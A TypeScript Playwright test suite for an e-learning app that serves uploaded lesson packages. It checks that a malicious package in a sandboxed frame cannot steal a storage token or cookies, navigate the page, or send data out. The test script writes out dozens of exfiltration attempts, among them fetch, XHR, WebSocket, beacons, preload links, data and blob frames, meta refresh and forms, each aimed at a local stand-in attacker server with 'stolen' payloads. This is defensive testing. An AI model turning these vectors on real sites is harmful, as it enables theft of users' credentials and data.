import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { Readable } from 'node:stream';
import type { Browser, Frame, Page } from '@playwright/test';
import { launchChromium } from '@academy/chromium';
import { contentFileKey } from '@academy/academy-data';
import { freePort } from '@academy/testing';
import { buildPackaged, type Started } from '../testing/packaged.ts';
import { startApp, type StartedApp } from '../testing/started-app.ts';

// In a real browser, a malicious package tries to reach the web app and other servers. Every attempt must fail.

interface Recorded {
  origin: string;
  requests: string[];
  close: () => void;
}

async function record(
  answer: (request: IncomingMessage, response: ServerResponse) => void,
): Promise<Recorded> {
  const requests: string[] = [];
  const server = createServer((request, response) => {
    if (request.url !== '/favicon.ico') requests.push(`${request.method} ${request.url}`);
    answer(request, response);
  });
  await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening));
  const { port } = server.address() as AddressInfo;
  return { origin: `http://localhost:${port}`, requests, close: () => server.close() };
}

let started: StartedApp;
let browser: Browser;
let app: Recorded;
let evil: Recorded;
let contentUrl: string;
let page: Page;
beforeAll(async () => {
  const port = await freePort();
  contentUrl = `http://localhost:${port}`;
  // The test serves a page with a token in its storage instead of the web app. The content security policy of the page
  // restricts frames as the policy of the web app does.
  app = await record((_, response) =>
    response
      .setHeader('content-type', 'text/html')
      .setHeader('content-security-policy', `frame-src ${contentUrl}; form-action 'self' ${contentUrl}`)
      .end('<!doctype html><title>App</title><script>localStorage.setItem("token", "secret")</script>'),
  );
  evil = await record((_, response) =>
    response
      .setHeader('access-control-allow-origin', '*')
      .setHeader('content-type', 'text/html')
      .end('got it'),
  );
  started = await startApp({ variables: { CONTENT_URL: contentUrl, PUBLIC_URL: app.origin } });
  await started.app.listen({ port, host: '127.0.0.1' });
  browser = await launchChromium();
});
afterAll(async () => {
  await browser.close();
  await started.stop();
  app.close();
  evil.close();
});
beforeEach(async () => {
  page = await (await browser.newContext()).newPage();
  evil.requests.length = 0;
});
afterEach(() => page.context().close());

type Packaged = Awaited<ReturnType<typeof buildPackaged>>;

const buildAttack = (script: string): Promise<Packaged> =>
  buildPackaged(started, {
    href: 'index.html',
    files: {
      'index.html': `<!doctype html><title>Lesson</title><body><script>${script}</script>`,
      'worker.js': '',
    },
  });

/**
 * Opens a lesson in a frame of the page that this test serves instead of the web app.
 * @returns the frame of the package
 */
async function play({ launch }: Started): Promise<Frame> {
  await page.goto(app.origin);
  // The script is a string, because this TypeScript project does not include the types of the browser.
  await page.evaluate(`{
    const frame = document.createElement('iframe');
    frame.name = 'lesson';
    frame.setAttribute('sandbox', 'allow-scripts allow-same-origin allow-forms allow-modals');
    const form = document.createElement('form');
    Object.assign(form, { method: 'post', action: ${JSON.stringify(launch.url)}, target: 'lesson' });
    form.append(Object.assign(document.createElement('input'), { name: 'ticket', value: '${launch.ticket}' }));
    addEventListener('message', ({ data, source, origin }) => {
      const none = { state: null, mastery_score: null, max_time_allowed: null, time_limit_action: null };
      const values = { ...none, launch_data: '', learner: { id: 'x', name: 'x' } };
      if (data.academy === 'ready') source.postMessage({ academy: 'start', values }, origin);
    });
    document.body.append(frame, form);
    form.submit();
  }`);
  const inner = await page.frameLocator('iframe').locator('iframe').elementHandle();
  const frame = await inner?.contentFrame();
  if (!frame) throw new Error('the package has no frame');
  await frame.waitForFunction('"ended" in window', undefined, { timeout: 15_000 });
  return frame;
}

const resultsOf = (frame: Frame) => frame.evaluate<Record<string, string>>('window.results');

/** Time in milliseconds that a browser needs to finish its background work, such as delayed requests. */
const settleMs = 1_000;

test('the scripts of a package can reach neither the web app nor another server', async () => {
  const attack = () => `
    window.results = {};
    const evil = ${JSON.stringify(evil.origin)}, app = ${JSON.stringify(app.origin)}, content = location.origin;
    const late = () => new Promise((_, failed) => setTimeout(failed, 1_000));
    const attempt = async (name, work) => {
      try {
        results[name] = 'done: ' + (await Promise.race([work(), late()]));
      } catch {
        results[name] = 'refused';
      }
    };
    const add = (name, attributes) => {
      const element = Object.assign(document.createElement(name), attributes);
      document.body.append(element);
      return element;
    };
    (async () => {
      await attempt('token in the storage', () => top.localStorage.getItem('token'));
      await attempt('document of the app', () => top.document.title);
      await attempt('cookie', () => { if (document.cookie === '') throw 0; return document.cookie; });
      await attempt('navigation of the top window', () => { top.location = evil + '/top'; });
      await attempt('window', () => { if (!window.open(evil + '/window')) throw 0; });
      await attempt('fetch of another server', () => fetch(evil + '/fetch?stolen'));
      await attempt('fetch of the API', () => fetch(app + '/api/companies', { credentials: 'include' }));
      await attempt('API at this origin', async () => { if (!(await fetch('/api/companies')).ok) throw 0; });
      await attempt('XMLHttpRequest', () => new Promise((done, failed) => {
        const request = new XMLHttpRequest();
        request.onload = done; request.onerror = failed;
        request.open('POST', evil + '/xhr'); request.send('stolen');
      }));
      await attempt('socket', () => new Promise((done, failed) => {
        const socket = new WebSocket(evil.replace('http', 'ws') + '/socket');
        socket.onopen = done; socket.onerror = failed;
      }));
      await attempt('events', () => new Promise((done, failed) => {
        const events = new EventSource(evil + '/events');
        events.onopen = done; events.onerror = failed;
      }));
      await attempt('service worker', () => navigator.serviceWorker.register('worker.js'));
      await attempt('module', () => import(evil + '/module.js'));
      await attempt('worker', () => new Promise((done, failed) => {
        const source = 'fetch("' + evil + '/worker").then(() => postMessage(1), () => close())';
        new Worker(URL.createObjectURL(new Blob([source]))).onmessage = done;
      }));
      navigator.sendBeacon(evil + '/beacon', 'stolen');
      add('img', { src: evil + '/image' });
      add('script', { src: evil + '/script' });
      add('link', { rel: 'stylesheet', href: evil + '/style' });
      add('link', { rel: 'prefetch', href: evil + '/prefetch' });
      add('link', { rel: 'manifest', href: evil + '/manifest' });
      for (const rel of ['preload', 'modulepreload', 'prerender', 'icon', 'next'])
        add('link', { rel, as: 'script', href: evil + '/link-' + rel });
      for (const kind of ['prefetch', 'prerender'])
        add('script', {
          type: 'speculationrules',
          textContent: JSON.stringify({ [kind]: [{ source: 'list', eagerness: 'immediate', urls: [evil + '/speculation-' + kind] }] }),
        });
      add('a', { href: evil + '/attribution-target', attributionSrc: evil + '/attribution' });
      const fetching = (name) => 'fetch("' + evil + '/' + name + '", { mode: "no-cors" })';
      add('iframe', { srcdoc: '<script>' + fetching('srcdoc') + '</' + 'script>' });
      add('iframe', { src: URL.createObjectURL(new Blob(['<script>' + fetching('blob') + '</' + 'script>'], { type: 'text/html' })) });
      add('iframe', { src: 'data:text/html,' + encodeURIComponent('<script>' + fetching('data') + '</' + 'script>') });
      add('iframe', { src: 'javascript:' + fetching('javascript') });
      new Worker('data:text/javascript,' + encodeURIComponent(fetching('data-worker')));
      window.fetchLater?.(evil + '/fetch-later', { activateAfter: 0 });
      add('video', { src: evil + '/video', autoplay: true });
      add('object', { data: evil + '/object' });
      add('embed', { src: evil + '/embed' });
      add('iframe', { src: evil + '/frame' });
      add('style', { textContent: '@import "' + evil + '/import"; body { background: url(' + evil + '/background) }' });
      add('a', { href: evil + '/link', target: '_blank' }).click();
      add('a', { href: evil + '/ping-target', ping: evil + '/ping', target: '_top' }).click();
      await new Promise((done) => setTimeout(done, 500));
      window.ended = true;
    })();`;
  const { start } = await buildAttack(attack());
  const frame = await play((await start()).body.data);
  await page.waitForTimeout(settleMs);
  const results = await resultsOf(frame);
  const allowed = Object.entries(results).filter(([, result]) => result !== 'refused');
  expect(allowed).toEqual([]);
  expect(Object.keys(results)).toHaveLength(14);
  expect(evil.requests).toEqual([]);
  expect(app.requests).toEqual(['GET /']);
  expect(page.url()).toBe(`${app.origin}/`);
  expect(page.context().pages()).toHaveLength(1);
});

test.each([
  ['its own frame', () => `location.href = '${evil.origin}/own?stolen'`],
  ['the frame of the player', () => `parent.location.href = '${evil.origin}/parent?stolen'`],
  [
    'the frame of the player by a script that it runs in this frame',
    () => `parent.eval("location.href = '${evil.origin}/script?stolen'")`,
  ],
  [
    'its own frame by an element',
    () => `document.head.innerHTML = '<meta http-equiv=refresh content="0;url=${evil.origin}/meta">'`,
  ],
  [
    'its own frame by a download',
    () =>
      `document.body.innerHTML = '<a href="${evil.origin}/download" download="x">x</a>'; document.querySelector('a').click()`,
  ],
  [
    'its own frame by a form',
    () => `document.body.innerHTML = '<form action="${evil.origin}/get"></form>'; document.forms[0].submit()`,
  ],
])('a package cannot navigate %s to another server', async (_, attack) => {
  const { start } = await buildAttack(`window.attack = () => { ${attack()} }; window.ended = true`);
  const frame = await play((await start()).body.data);
  await frame.evaluate('void setTimeout(window.attack)');
  await page.waitForTimeout(settleMs);
  expect(evil.requests).toEqual([]);
  expect(page.url()).toBe(`${app.origin}/`);
});

test('a package cannot read what another package has stored in the browser', async () => {
  const first = await buildAttack(`localStorage.setItem('left', 'secret'); window.ended = true`);
  await play((await first.start()).body.data);
  const second = await buildAttack(
    `window.results = { left: String(localStorage.getItem('left')) }; window.ended = true`,
  );
  const frame = await play((await second.start()).body.data);
  expect(await resultsOf(frame)).toEqual({ left: 'null' });
});

test('a package can load its own files and access the SCORM API in the frame of the player', async () => {
  const { start, packageId } = await buildAttack(`
    (async () => {
      const response = await fetch('worker.js?v=1');
      window.results = { status: String(response.status), api: String(typeof parent.API) };
      window.ended = true;
    })()`);
  await started.storage.put(contentFileKey({ packageId, number: 101 }), Readable.from([Buffer.from('')]));
  const frame = await play((await start()).body.data);
  expect(await resultsOf(frame)).toEqual({ status: '200', api: 'object' });
});
